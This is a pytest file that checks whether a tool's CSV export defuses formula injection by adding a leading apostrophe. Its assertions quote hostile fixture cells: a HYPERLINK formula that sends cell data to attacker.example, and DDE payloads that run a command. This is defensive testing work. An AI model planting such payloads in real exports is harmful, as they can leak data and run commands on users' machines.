"""CSV safe for spreadsheets (issue 17, point 2): formula-like text cells get a leading apostrophe
(OWASP "CSV Injection"), numbers stay as they are, and --raw writes the bytes as they are."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import DATA, run_process
from dgcli.render.csvfmt import FORMULA_STARTS, neutralised

FORMULAS = DATA / "hostile" / "formulas.yaml"
TEXT_COLUMNS = ("name", "name_en", "answer", "part", "published", "period_published")
NUMBER_COLUMNS = ("value", "low", "high", "line")


def rows(*args: str) -> list[dict[str, str]]:
    outcome = run_process("export", "--file", str(FORMULAS), *args)
    assert outcome.code == 0, outcome.err
    return list(csv.DictReader(io.StringIO(outcome.out.removeprefix("\ufeff"), newline="")))


def test_no_text_cell_starts_a_formula_and_each_keeps_its_text() -> None:
    safe, raw = rows(), rows("--raw")
    assert len(safe) == len(raw) == 8  # 2 mynacard + 2 insurance + 2 parts + 2 answers (formulas.yaml)
    for cooked, exact in zip(safe, raw, strict=True):
        for column in TEXT_COLUMNS:
            assert not cooked[column].startswith(FORMULA_STARTS), (column, cooked[column])
            assert cooked[column] in (exact[column], "'" + exact[column])
        for column in NUMBER_COLUMNS:
            assert cooked[column] == exact[column]
    # The hostile names of the fixture, read back: one apostrophe in front, nothing else changed.
    assert safe[0]["name"] == '\'=HYPERLINK("https://attacker.example/?"&A1,"click")'
    assert safe[0]["name_en"] == "'+cmd|' /C calc'!A0"
    assert safe[2]["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and safe[2]["name_en"] == "'\t=1+1"
    assert [r["part"] for r in safe[4:6]] == ["'=1+2", "'-sum(A1)"]
    assert [r["answer"] for r in safe[6:]] == ["'=良いと思う", "'@良いと思わない"]
    # --raw: the bytes as the file holds them.
    assert raw[0]["name"] == '=HYPERLINK("https://attacker.example/?"&A1,"click")'
    assert raw[4]["part"] == "=1+2"


@pytest.mark.parametrize(
    ("text", "cell"),
    [("\r=1+1", "'\r=1+1"), ("\t@x", "'\t@x"), ("-1.5", "-1.5"), ("+3%", "+3%"), ("-", "'-"), ("a=b", "a=b")],
)
def test_neutralised(text: str, cell: str) -> None:
    assert neutralised(text) == cell


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_unless_a_plain_number(text: str) -> None:
    cell = neutralised(text)
    assert cell in (text, "'" + text)
    if cell.startswith(FORMULA_STARTS):
        assert cell == text and text[0] in "+-" and text[1:].replace(".", "", 1).removesuffix("%").isdecimal()
